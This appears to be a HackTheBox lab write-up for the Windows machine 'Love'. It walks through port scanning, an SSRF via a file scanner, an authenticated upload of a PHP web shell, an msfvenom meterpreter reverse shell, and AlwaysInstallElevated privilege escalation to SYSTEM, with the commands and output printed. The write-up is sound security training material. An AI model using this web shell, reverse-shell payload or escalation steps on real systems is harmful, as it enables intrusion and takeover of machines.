Love - [HTB]

Cover Image for Love - [HTB]

Table of Contents


    Love is an easy Windows machine from HackTheBox filled with some rabbit holes and some tricks that wouldn't allow you to escalate privileges, but for the shake of simplicity I am not gonna tell. First of all, we need to obtain some credentials via a SSRF in a File Scanner web for a later RCE explotation in a voting system. Finally, in order to become Administrator we only to install a malign crafted msi package.


    As always let's start scanning all opened ports in the box.

    kali@kali:~/Documents/HTB/Love$ sudo nmap -sS -n -T5 -p- -oN AllPorts.txt
    Warning: giving up on port because retransmission cap hit (2).
    Nmap scan report for
    Host is up (0.039s latency).
    Not shown: 65501 closed ports
    80/tcp    open     http
    135/tcp   open     msrpc
    139/tcp   open     netbios-ssn
    443/tcp   open     https
    445/tcp   open     microsoft-ds
    1912/tcp  filtered rhp-iibp
    2178/tcp  filtered bitspeer
    3306/tcp  open     mysql
    5000/tcp  open     upnp
    5040/tcp  open     unknown
    5985/tcp  open     wsman
    5986/tcp  open     wsmans

    Then, we continue with an exhaustive scan of each port.

    kali@kali:~/Documents/HTB/Love$ sudo nmap -sC -sV -n -T5 -p80,135,139,443,445,3306,5000,5040,5985,5986,47001,49664,49665,49666,49667,49668,49669,49670 -oN PortsDepth.txt
    Nmap scan report for
    Host is up (0.054s latency).
    80/tcp    open  http         Apache httpd 2.4.46 ((Win64) OpenSSL/1.1.1j PHP/7.3.27)
    | http-cookie-flags:
    |   /:
    |     PHPSESSID:
    |_      httponly flag not set
    |_http-server-header: Apache/2.4.46 (Win64) OpenSSL/1.1.1j PHP/7.3.27
    |_http-title: Voting System using PHP
    135/tcp   open  msrpc        Microsoft Windows RPC
    139/tcp   open  netbios-ssn  Microsoft Windows netbios-ssn
    443/tcp   open  ssl/httpApache httpd 2.4.46 (OpenSSL/1.1.1j PHP/7.3.27)
    |_http-server-header: Apache/2.4.46 (Win64) OpenSSL/1.1.1j PHP/7.3.27
    |_http-title: 403 Forbidden
    | ssl-cert: Subject:
    | Not valid before: 2021-01-18T14:00:16
    |_Not valid after:  2022-01-18T14:00:16
    |_ssl-date: TLS randomness does not represent time
    | tls-alpn:
    |_  http/1.1
    445/tcp   open  microsoft-ds Microsoft Windows 7 - 10 microsoft-ds (workgroup: WORKGROUP)
    3306/tcp  open  mysql?
    | fingerprint-strings:
    |   HTTPOptions, Help, LDAPBindReq, SMBProgNeg:
    |_    Host '' is not allowed to connect to this MariaDB server
    5000/tcp  open  http         Apache httpd 2.4.46 (OpenSSL/1.1.1j PHP/7.3.27)
    |_http-server-header: Apache/2.4.46 (Win64) OpenSSL/1.1.1j PHP/7.3.27|_http-title: 403 Forbidden
    5040/tcp  open  unknown
    Service detection performed. Please report any incorrect results at .
    # Nmap done at Sat May  1 15:05:52 2021 -- 1 IP address (1 host up) scanned in 178.01 seconds

    As we can see in the nmap output there are several HTTP servers running on the machine. Furthermore, we can find the domain

    In the port 80 there is a Voting System.

    Voting system

    Looking in searchsploit there are several exploits. One of them allow us to obtain an RCE in the machine (We are gonna exploit it manually), but we need some credentials.

    kali@kali:~/Documents/HTB/Love$ searchsploit voting system
    ---  ---
     Exploit Title                                                                       |  Path--- ---
    Online Voting System - Authentication Bypass                                        | php/webapps/
    Online Voting System Project in PHP - 'username' Persistent Cross-Site Scripting    | multiple/webapps/49159.txt
    Voting System 1.0 - File Upload RCE (Authenticated Remote Code Execution)           | php/webapps/
    --- ---
    Shellcodes: No Results
    Papers: No Results

    In the URL there is a Beta File Scanner with a demo page where we can submit URLs.

    The scanner uses an internal web browser which shows the contents of the URL we indicate in the form. Hence, we can access to the HTTP server at port 5000 which doesn't allow foreign connections.

    Server Side Request Forgery



    Once we have thecredentials we can access to the voters list in the admin panel of the voting system.

    Voters list

    In order to obtain our RCE we need to create a new voter, uploading a web shell as image. The web shell I used is the following.

    <?php if(isset($_REQUEST['cmd'])){echo '<pre>';$cmd = ($_REQUEST['cmd']);system($cmd);echo '</pre>';} __halt_compiler();?>
    Adding a new voter

    Watching the image through this link we obtain the RCE.

    Voting System RCEPrivilege Ecalation 1

    Now, we can convert our web shell into a meterpreter shell that wll get us handy for the privilege escalation.

    For that we need to generate a meterpreter reverse shell with msfvenom

    kali@kali:~/Documents/HTB/Love$ msfvenom -p windows/meterpreter/reverse_tcp LHOST=LPORT=4444 -f exe > /tmp/shell.exe
    [-] No platform was selected, choosing Msf::Module::Platform::Windows from the payload
    [-] No arch selected, selecting arch: x86 from the payload
    No encoder specified, outputting raw payload
    Payload size: 354 bytes
    Final size of exe file: 73802 bytes

    Then, we need to use the multi/handler from metasploit in order to put a listenning port.

    msf6 > use multi/handler
    [*] Using configured payload generic/shell_reverse_tcp
    msf6 exploit(multi/handler) > set payload windows/meterpreter/reverse_tcp
    payload => windows/meterpreter/reverse_tcp
    msf6 exploit(multi/handler) > set lhost
    lhost =>
    msf6 exploit(multi/handler) > exploit
    [*] Started reverse TCP handler on

    Finally, we need to download and execute the shell in the machine.


    The result is a meterpreter shell as phoebe.

    [*] Sending stage (175174 bytes) to
    [*] Meterpreter session 1 opened ( -> at 2021-05-05 11:25:08 -0400
    meterpreter > getuid
    Server username: LOVE\Phoebe

    Privilege Escalation 2

    In order to enumerate inside the machine I have uploaded and executed WinPEASx86.

    meterpreter > upload ../UTILS/winPEASx86.exe
    [*] uploading  : /mnt/hgfs/2_MisPostsBlog/HTB/UTILS/winPEASx86.exe -> winPEASx86.exe
    [*] Uploaded 461.00 KiB of 461.00 KiB (100.0%): /mnt/hgfs/2_MisPostsBlog/HTB/UTILS/winPEASx86.exe -> winPEASx86.exe
    [*] uploaded   : /mnt/hgfs/2_MisPostsBlog/HTB/UTILS/winPEASx86.exe -> winPEASx86.exe
    meterpreter> shell
    Process 4688 created.
    Channel 5 created.
    Microsoft Windows [Version 10.0.19042.928]
    (c) Microsoft Corporation. All rights reserved.
     Volume in drive C has no label.
     Volume Serial Number is 56DE-BA30
     Directory of C:\xampp\htdocs\omrs\images
    05/05/2021  09:01 AM    <DIR>          .
    05/05/2021  09:01 AM    <DIR>          ..
    05/18/2018  08:10 AM             4,240 facebook-profile-image.jpeg
    04/12/2021  03:53 PM                 0 index.html.txt
    01/27/2021  12:08 AM               844 index.jpeg
    08/24/2017  04:00AM            26,644 profile.jpg
    05/05/2021  08:45 AM            73,802 shell.exe
    05/05/2021  09:01 AM           472,064 winPEASx86.exe
                   6 File(s)        577,594 bytes
                   2 Dir(s)   2,226,434,048 bytes free

    Between all the lines, winPEAS alert us that can install msi packages as Administrator. Hence, we can uploaded a crafted msi package in order to obtain a reverse shell as Administrator.

     [+] Checking AlwaysInstallElevated
        AlwaysInstallElevated set to 1 in HKLM!
        AlwaysInstallElevated set to 1 in HKCU!

    Nonetheless, there is a metasploit module that does everything for us and it just needs a meterpreter session. The commands you need to execute in order to become Administrator are the following.

    msf6 exploit(multi/handler) > use exploit/windows/local/always_install_elevated
    [*] No payload configured, defaulting to windows/meterpreter/reverse_tcpmsf6 exploit(windows/local/always_install_elevated)> set lport 4445
    lport => 4445
    msf6 exploit(windows/local/always_install_elevated) > set lhost
    lhost =>
    msf6 exploit(windows/local/always_install_elevated) > set session 1
    session => 1
    msf6 exploit(windows/local/always_install_elevated) > run
    [*] Started reverse TCP handler on
    [*] Uploading the MSI toC:\Users\Phoebe\AppData\Local\Temp\llwONoulUeTSf.msi ...
    [*] Executing MSI...
    [*] Sending stage (175174 bytes) to
    [*] Meterpreter session 2 opened ( -> at 2021-05-05 11:31:14 -0400
    meterpreter > getuid
    Server username: NT AUTHORITY\SYSTEM
    meterpreter >type C:\\Users\\Administrator\\Desktop\\root.txt